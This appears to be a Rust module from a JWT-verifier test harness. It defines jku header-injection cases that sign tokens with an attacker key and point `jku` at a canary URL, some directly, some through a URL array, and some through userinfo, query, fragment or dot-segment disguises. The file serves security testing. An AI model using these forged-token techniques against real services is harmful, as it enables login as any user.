//! A URL of keys in the header (RFC 7515 section 4.1.2). Every URL leads to the canary: a fetch
//! is in the journal, and is answered with the attacker's JWK Set.

use serde_json::{Value, json};

use crate::defects::{Argument, Attacker, Defect, Gains, Inject};
use crate::mint::{Draft, MintContext, Signing};
use crate::spec::requirements::key;

/// Every entry of this file.
pub(super) static ALL: &[Defect] = &[
    Defect {
        id: "header.jku-attacker",
        summary: "signs with a key of its own and lets `jku` point to it",
        inject: &[
            Inject::Header(|draft, cx| point_to(draft, cx, url(cx))),
            Inject::Key(attacker_signs),
        ],
        evidence: &["jwt_tool -X s", "PortSwigger: JWT bypass via jku header injection"],
        docs: "Refusing is one thing; that nothing was fetched is another, and the journal tells.",
        ..FETCHED
    },
    Defect {
        id: "header.jku-array",
        summary: "lets `jku` be a list: the attacker's URL, then the issuer's",
        inject: &[
            Inject::Header(|draft, cx| {
                let trusted = format!("{}/jwks", cx.sound.issuer);
                point_to(draft, cx, json!([url(cx), trusted]));
            }),
            Inject::Key(attacker_signs),
        ],
        evidence: &["PrOfESSOS key confusion 2"],
        docs: "One element passes the list of trusted URLs, another is fetched.",
        ..FETCHED
    },
    Defect {
        id: "header.jku-prefix-trick",
        summary: "lets `jku` begin or end like the issuer's URL and lead to the attacker",
        argument: Argument::OneOf(&["dot-segments", "userinfo", "query", "fragment"]),
        inject: &[
            Inject::Header(|draft, cx| point_to(draft, cx, disguised(cx))),
            Inject::Key(attacker_signs),
        ],
        evidence: &["RFC 8725 section 3.10"],
        docs: "A comparison of beginnings or ends is no check of a URL.",
        ..FETCHED
    },
];

const FETCHED: Defect = Defect {
    breaks: &[&key::BELONGS_TO_ISSUER],
    attacker: Attacker::Outsider,
    gains: Gains::LoginAsAnyone,
    ..Defect::PLAIN
};

/// Sets `jku`, and `kid` to the name that the key has behind it.
fn point_to(draft: &mut Draft, cx: &MintContext<'_>, jku: impl Into<Value>) {
    draft.header.set("jku", jku.into());
    draft.header.set("kid", cx.attacker().name);
}

fn attacker_signs(draft: &mut Draft, cx: &MintContext<'_>) {
    draft.sign_with(Signing::Key(cx.attacker(), cx.sound.alg));
}

fn url(cx: &MintContext<'_>) -> String {
    format!("{}/jku/{}", cx.sound.canary, cx.sound.jti)
}

fn disguised(cx: &MintContext<'_>) -> String {
    let (url, issuer) = (url(cx), &cx.sound.issuer);
    let (scheme, rest) = url.split_once("://").unwrap_or(("http", &url));
    let path = rest.find('/').map_or("", |at| &rest[at..]);
    let trusted_host = issuer.split_once("://").map_or("", |(_, rest)| rest);
    let trusted_host = trusted_host.split('/').next().unwrap_or_default();
    match cx.argument.text() {
        "userinfo" => format!("{scheme}://{trusted_host}@{rest}"),
        "query" => format!("{url}?{issuer}/jwks"),
        "fragment" => format!("{url}#{issuer}/jwks"),
        _ => format!("{issuer}/{}{}", "../".repeat(depth(issuer)), path.trim_start_matches('/')),
    }
}

/// How many segments the path of a URL has.
fn depth(url: &str) -> usize {
    let rest = url.split_once("://").map_or(url, |(_, rest)| rest);
    rest.trim_end_matches('/').matches('/').count()
}
